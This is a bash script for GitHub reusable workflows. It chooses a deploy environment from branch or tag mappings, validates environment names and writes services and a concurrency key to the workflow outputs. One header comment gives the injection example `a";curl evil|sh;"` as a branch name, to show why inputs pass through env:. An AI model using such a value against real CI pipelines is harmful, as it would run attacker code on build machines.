#!/usr/bin/env bash
# Decides which GitHub environment a run deploys to, for the reusable workflows.
#
# Kept in a file (not inline in the workflow) so test/workflows/select-environment.test.ts
# runs exactly this code. The reusable workflows run it from the suite checkout at
# job.workflow_sha, so a caller pinned to a tag or SHA also gets the matching script.
#
# Every value arrives through env: (never ${{ }} inside run:), so a branch name such
# as `a";curl evil|sh;"` is data here, never code.
#
# Env:
#   EXPLICIT_ENVIRONMENT  an environment chosen by hand (workflow_dispatch); wins when set
#   BRANCH_ENVIRONMENTS   lines `branch=environment`; the branch side may be a glob
#                         (`release/*=staging`); `tag:<glob>=environment` matches tags
#                         instead (`tag:v*=prod`); `#` starts a comment; first match wins
#   REF_NAME, REF_TYPE    github.ref_name / github.ref_type of the run
#   DEPLOY_KEY            optional: services (one per line) or a site name, folded into
#                         the concurrency key
#   ENVIRONMENT_SERVICES  optional: lines `environment=service[,service…]`: the services of
#                         the chosen environment replace DEPLOY_KEY (services named per
#                         environment, e.g. `dev=orders-dev-api`); an environment without a
#                         line keeps DEPLOY_KEY, or fails when that is empty too
# Outputs (GITHUB_OUTPUT): environment, deploy (true|false), reason, concurrency-key,
#   services (the services to deploy, one per line), primary (the first of them: the
#   service whose network settings a migration task borrows)
set -euo pipefail

explicit="${EXPLICIT_ENVIRONMENT:-}"
mapping="${BRANCH_ENVIRONMENTS:-}"
ref_name="${REF_NAME:-}"
ref_type="${REF_TYPE:-branch}"
deploy_key="${DEPLOY_KEY:-}"
out="${GITHUB_OUTPUT:-/dev/stdout}"

fail() {
  echo "::error title=select-environment::$1"
  exit 1
}

trim() {
  local s="$1"
  s="${s#"${s%%[![:space:]]*}"}"
  s="${s%"${s##*[![:space:]]}"}"
  printf '%s' "$s"
}

# GitHub allows many characters in environment names, but these values end up in
# concurrency groups, output files and summaries: keep to a safe, common subset.
valid_environment() {
  [[ "$1" =~ ^[A-Za-z0-9][A-Za-z0-9._-]{0,254}$ ]]
}

environment=""
reason=""
if [[ -n "$(trim "$explicit")" ]]; then
  environment="$(trim "$explicit")"
  valid_environment "$environment" ||
    fail "input 'environment' is '$environment': use letters, digits, '.', '_' or '-' (for example 'prod' or 'staging')."
  reason="chosen explicitly"
else
  line_no=0
  problems=()
  while IFS= read -r raw || [[ -n "$raw" ]]; do
    line_no=$((line_no + 1))
    line="$(trim "${raw%%#*}")"
    [[ -z "$line" ]] && continue
    if [[ "$line" != *=* ]]; then
      problems+=("input 'branch-environments' line $line_no is '$line': expected 'branch=environment', for example 'main=prod'.")
      continue
    fi
    pattern="$(trim "${line%%=*}")"
    target="$(trim "${line#*=}")"
    if [[ -z "$pattern" ]] || ! valid_environment "$target"; then
      problems+=("input 'branch-environments' line $line_no is '$line': expected 'branch=environment' with an environment of letters, digits, '.', '_' or '-'.")
      continue
    fi
    want_type=branch
    if [[ "$pattern" == tag:* ]]; then
      want_type=tag
      pattern="${pattern#tag:}"
    fi
    # The unquoted right-hand side makes the pattern a glob (release/* matches release/1.2).
    # shellcheck disable=SC2053
    if [[ -z "$environment" && "$ref_type" == "$want_type" && "$ref_name" == $pattern ]]; then
      environment="$target"
      reason="$ref_type '$ref_name' matches '$pattern'"
    fi
  done <<< "$mapping"
  if (( ${#problems[@]} > 0 )); then
    for p in "${problems[@]}"; do echo "::error title=select-environment::$p"; done
    exit 1
  fi
  if [[ -z "$environment" ]]; then
    reason="$ref_type '$ref_name' is not in branch-environments: nothing to deploy"
  fi
fi

deploy=false
[[ -n "$environment" ]] && deploy=true

# Services per environment, so a caller needs no expression repeating its branch mapping.
if [[ -n "$environment" && -n "$(trim "${ENVIRONMENT_SERVICES:-}")" ]]; then
  found=""
  line_no=0
  while IFS= read -r raw || [[ -n "$raw" ]]; do
    line_no=$((line_no + 1))
    line="$(trim "${raw%%#*}")"
    [[ -z "$line" ]] && continue
    if [[ "$line" != *=* || -z "$(trim "${line#*=}")" ]]; then
      fail "input 'environment-services' line $line_no is '$line': expected 'environment=service', for example 'prod=orders-prod-api' (several services: 'prod=api,worker')."
    fi
    if [[ -z "$found" && "$(trim "${line%%=*}")" == "$environment" ]]; then
      found="$(trim "${line#*=}")"
    fi
  done <<< "$ENVIRONMENT_SERVICES"
  if [[ -n "$found" ]]; then
    deploy_key="$(printf '%s' "$found" | tr ', ' '\n\n' | sed '/^$/d')"
  elif [[ -z "$(trim "$deploy_key")" ]]; then
    fail "input 'environment-services' has no line for environment '$environment' and input 'services' is empty: add '$environment=<service>' to environment-services."
  fi
fi

# One key per deploy target: services (or site) sorted and joined so the same set in
# any order shares a concurrency group; characters outside a safe set become '-'.
key="$(printf '%s\n' "$deploy_key" | tr ',' '\n' | while IFS= read -r s; do trim "$s"; echo; done | sed '/^$/d' | LC_ALL=C sort -u | paste -sd+ -)"
key="$(printf '%s' "$key" | LC_ALL=C tr -c 'A-Za-z0-9._+/-' '-')"
[[ -z "$key" ]] && key="default"

primary=""
while IFS= read -r s; do
  s="$(trim "${s%%,*}")"
  if [[ -n "$s" ]]; then primary="$s"; break; fi
done <<< "$deploy_key"

{
  echo "environment=$environment"
  echo "deploy=$deploy"
  echo "reason=$reason"
  echo "concurrency-key=$key"
  echo "primary=$primary"
  echo "services<<SERVICES_EOF"
  printf '%s\n' "$deploy_key" | tr ',' '\n' | while IFS= read -r s; do trim "$s"; echo; done | sed '/^$/d'
  echo "SERVICES_EOF"
} >> "$out"

if [[ -n "${GITHUB_STEP_SUMMARY:-}" ]]; then
  if [[ "$deploy" == true ]]; then
    echo "Deploying to **$environment** ($reason)." >> "$GITHUB_STEP_SUMMARY"
  else
    echo "No deployment: $reason." >> "$GITHUB_STEP_SUMMARY"
  fi
fi
echo "environment='$environment' deploy=$deploy ($reason)"
